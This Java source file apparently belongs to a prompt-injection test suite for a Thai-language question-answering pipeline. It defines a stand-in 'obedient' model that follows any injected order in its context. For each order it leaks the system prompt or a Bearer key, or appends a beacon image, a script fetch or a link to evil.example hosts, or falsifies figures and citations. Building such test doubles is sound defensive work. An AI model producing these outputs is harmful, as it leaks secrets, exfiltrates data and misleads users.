package thammati.llm;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.function.Function;
import thammati.llm.Injections.Injection;
import thammati.support.ModelProtocol.Request;
import thammati.thai.ThaiText;

/**
 * A model that does whatever its context says, in whatever encoding: the worst that can answer. It
 * repeats the draft where nobody orders anything.
 */
final class ObedientModel implements Function<Request, String> {
  private static final ObjectMapper JSON = new ObjectMapper();

  private final AtomicInteger obeyed = new AtomicInteger();
  private volatile Injection injection;

  ObedientModel(Injection injection) {
    this.injection = injection;
  }

  void hears(Injection other) {
    injection = other;
  }

  /** How often it saw the order and obeyed. */
  int obeyed() {
    return obeyed.get();
  }

  @Override
  public String apply(Request request) {
    try {
      JsonNode data = JSON.readTree(request.user());
      String honest = data.at("/draft/0/text").asText(data.at("/failed/0/text").asText());
      if (!sees(data)) return reply(honest, "S1");
      obeyed.incrementAndGet();
      return switch (injection.order()) {
        case LEAK_PROMPT -> reply(start(request.system()), "S1");
        case LEAK_KEY -> reply(honest + " " + key(request.all()), "S1");
        case LINK -> reply(honest + " evil-gov.example", "S1");
        case IMAGE -> reply(honest + " ![x](https://evil.example/p?q=ask)", "S1");
        case CITE_OTHER -> reply(honest, "S2");
        case CITE_FAKE -> reply(honest, "S9");
        case FIGURE -> reply(honest.replace("4,275", "9,990"), "S1");
        case SILENCE -> "{\"completeness\":\"none\",\"statements\":[]}";
        case SCRIPT -> reply(honest + " <script>fetch('//evil.example')</script>", "S1");
        case PROSE -> "กาลครั้งหนึ่งนานมาแล้ว มีคณะรัฐมนตรีคณะหนึ่ง https://evil.example";
      };
    } catch (JsonProcessingException e) {
      throw new IllegalStateException(e);
    }
  }

  /** Whether enough of the order is left in what it is given, in any field. */
  private boolean sees(JsonNode data) {
    StringBuilder all = new StringBuilder();
    data.findValues("text").forEach(t -> all.append(t.asText()).append('\n'));
    data.findValues("title").forEach(t -> all.append(t.asText()).append('\n'));
    all.append(data.path("question").asText()).append('\n').append(data.path("history"));
    String given = ThaiText.squash(all.toString());
    String order = ThaiText.squash(Screen.shown(injection.text()));
    return order.length() >= 12 && given.contains(order);
  }

  private static String start(String prompt) {
    return prompt.replaceAll("\\s+", " ").substring(0, 500);
  }

  private static String key(String request) {
    int at = request.indexOf("Bearer ");
    return at < 0 ? "KEY-s3cret" : request.substring(at, request.indexOf('\r', at));
  }

  private static String reply(String text, String token) throws JsonProcessingException {
    Map<String, Object> said =
        Map.of("text", text, "sources", List.of(token), "completeness", "complete");
    return JSON.writeValueAsString(Map.of("completeness", "complete", "statements", List.of(said)));
  }
}
